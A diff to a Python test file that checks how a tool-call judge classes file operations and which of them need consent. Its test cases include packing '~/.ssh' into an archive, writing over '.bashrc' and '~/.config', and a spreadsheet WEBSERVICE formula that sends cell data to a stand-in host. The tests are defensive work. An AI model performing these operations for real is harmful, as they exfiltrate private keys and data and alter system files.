@@ -51,6 +51,17 @@ def judge(tmp_path: Path) -> Judge:
         ("rename_files", {"files": "nothing*", "to": "{n}.txt"}, EDIT),
         ("restore_file", {"name": "x", "target": "x.txt"}, CREATE),
         ("restore_file", {"name": "x", "target": "~/.profile"}, SYSTEM),
+        ("pack_archive", {"sources": ["in"], "target": "in.zip"}, CREATE),
+        ("pack_archive", {"sources": ["link"], "target": "far.zip"}, OUTSIDE),
+        ("pack_archive", {"sources": ["~/.ssh"], "target": "keys.zip"}, SYSTEM),
+        ("unpack_archive", {"source": "a.zip", "target": "out"}, CREATE),
+        ("unpack_archive", {"source": "a.zip", "target": "~/.config"}, SYSTEM),
+        ("unpack_archive", {"source": "a.zip", "target": "link"}, OUTSIDE),
+        ("pdf_of_pages", {"parts": [{"file": "a.pdf"}], "target": "b.pdf"}, CREATE),
+        ("pdf_of_pages", {"parts": [{"file": "a.pdf"}, {"file": "link/b.pdf"}], "target": "c.pdf"}, OUTSIDE),
+        ("make_document", {"target": "b.ods", "sheets": {"A": [["=SUM(A1:A2)"]]}}, CREATE),
+        ("make_document", {"target": "b.ods", "sheets": {"A": [['=WEBSERVICE("http://x/"&A1)']]}}, ActionClass.SEND),
+        ("convert_document", {"source": "a.odt", "target": ".bashrc"}, SYSTEM),
     ],
 )
 async def test_a_call_is_judged_by_where_its_files_really_lie(
@@ -58,4 +69,4 @@ async def test_a_call_is_judged_by_where_its_files_really_lie(
 ) -> None:
     verdict = await judge.of(tool, **arguments)
     assert verdict.action_class is expected, verdict
-    assert verdict.needs_consent is (expected in (OUTSIDE, OVERWRITE, SYSTEM))
+    assert verdict.needs_consent is (expected in (OUTSIDE, OVERWRITE, SYSTEM, ActionClass.SEND))
